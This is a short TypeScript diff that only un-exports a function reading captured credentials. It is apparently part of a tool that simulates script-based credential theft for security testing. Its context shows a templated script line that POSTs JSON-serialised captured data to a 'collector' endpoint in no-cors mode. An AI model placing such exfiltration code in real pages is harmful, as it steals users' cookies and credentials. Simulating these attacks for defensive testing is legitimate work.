@@ -84,7 +84,7 @@ const captured = `
   await genuine(given.collector, { method: 'POST', mode: 'no-cors', body: JSON.stringify(taken) });`;
 
 /** Reads what the script captured, as attackers do who know the application. */
-export function artefactsIn(taken: Facts, { credentials }: Protocol): CapturedCredential[] {
+function artefactsIn(taken: Facts, { credentials }: Protocol): CapturedCredential[] {
   return Object.entries(credentials).flatMap(([name, { role, from, in: place }]): CapturedCredential[] => {
     const as = (values: Readonly<Record<string, string>>): Credential => ({ [name]: { role, values } });
     if ('cookies' in place) {
